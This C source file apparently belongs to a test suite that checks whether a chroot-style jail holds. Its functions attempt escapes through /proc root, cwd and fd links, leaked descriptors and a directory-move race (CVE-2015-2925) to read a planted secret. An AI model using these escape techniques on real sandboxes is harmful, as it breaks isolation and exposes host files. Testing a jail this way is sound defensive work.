/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * files.c - paths and descriptors: U2, U4, R7, R9.
 *
 * The secret is mode 0600 and belongs to the attacker's own uid, so nothing
 * but the jail stands in the way.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attacks.h"

static int
open_proc(const struct target *t, const char *link, const char *rest)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%d/%s%s", t->pid, link, rest);
	return secret_at(AT_FDCWD, path);
}

int
proc_root(const struct target *t)
{
	char rest[256], task[64];

	snprintf(rest, sizeof(rest), "%s/secret", t->dir);
	snprintf(task, sizeof(task), "task/%d/root", t->pid);
	if (open_proc(t, "root", rest) == 0)
		return 0;
	return open_proc(t, task, rest);
}

int
proc_cwd(const struct target *t)
{
	return open_proc(t, "cwd", "/secret");
}

int
proc_fd(const struct target *t)
{
	char link[64];

	snprintf(link, sizeof(link), "fd/%d", t->fd);
	return open_proc(t, link, "");
}

/* One link of one process: a file, or a directory to look below of. */
static int
link_leads_out(const struct target *t, const char *pid, const char *link)
{
	char path[PATH_MAX];
	int fd, rc;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, link);
	fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	rc = secret_in(fd);
	if (rc < 0)
		rc = secret_below(fd, t);
	close(fd);
	return rc;
}

/* Also what shares the jail: a server's process that kept a way to the host. */
int
proc_any(const struct target *t)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	char link[64];

	while (d && (e = readdir(d))) {
		if (!isdigit((unsigned char)e->d_name[0]))
			continue;
		if (link_leads_out(t, e->d_name, "root") == 0 ||
		    link_leads_out(t, e->d_name, "cwd") == 0)
			return 0;
		for (int fd = 0; fd < 32; fd++) {
			snprintf(link, sizeof(link), "fd/%d", fd);
			if (link_leads_out(t, e->d_name, link) == 0)
				return 0;
		}
	}
	errno = d ? 0 : errno;
	return -1;
}

/* World-readable on the host; "its own path" must not lead there either. */
int
other_home(const struct target *t)
{
	if (secret_at(AT_FDCWD, t->other) == 0)
		return 0;
	return open_proc(t, "root", t->other);
}

/* Where su(1) was called, if entering did not end with chdir("/"). */
int
caller_cwd(const struct target *t)
{
	if (secret_at(AT_FDCWD, "secret") == 0)
		return 0;
	return climb_out(t);
}

/* R9: whatever the process that let us in forgot to close. */
int
left_open(const struct target *t)
{
	struct stat st;

	for (int fd = 3; fd < 1024; fd++) {
		if (fstat(fd, &st) < 0)
			continue;
		if (S_ISREG(st.st_mode) && secret_in(fd) == 0)
			return 0;
		if (!S_ISDIR(st.st_mode))
			continue;
		if (secret_below(fd, t) == 0)
			return 0;
		if (fchdir(fd) == 0 && climb_out(t) == 0)
			return 0;
	}
	errno = 0;
	return -1;
}

/*
 * R7, CVE-2015-2925: stand in a directory of the home, have the helper move it
 * to a place outside, and climb from there.
 */
int
moved_out(const struct target *t)
{
	char path[PATH_MAX];
	struct stat st;

	if (in_here(path, sizeof(path), t, "move") < 0 ||
	    (mkdir(path, 0755) < 0 && errno != EEXIST) || chdir(path) < 0)
		return -1;
	for (int i = 0; i < 2000; i++) {
		if (lstat(path, &st) < 0 && errno == ENOENT)
			return climb_out(t);
		usleep(1000);
	}
	errno = ETIMEDOUT;
	return -1;
}

/* A jail is read-only to root, so EROFS and not merely EACCES is wanted. */
int
write_root(const struct target *t)
{
	static const char *const names[] = {
		"/attack", "/etc/attack", "/usr/attack", "/usr/bin/attack",
		"/usr/lib/attack", "/var/attack", "/dev/attack",
	};
	int fd, worst = EROFS;

	(void)t;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		fd = open(names[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd >= 0) {
			unlink(names[i]);
			return 0;
		}
		if (errno != EROFS && errno != ENOENT)
			worst = errno;
	}
	errno = worst;
	return -1;
}
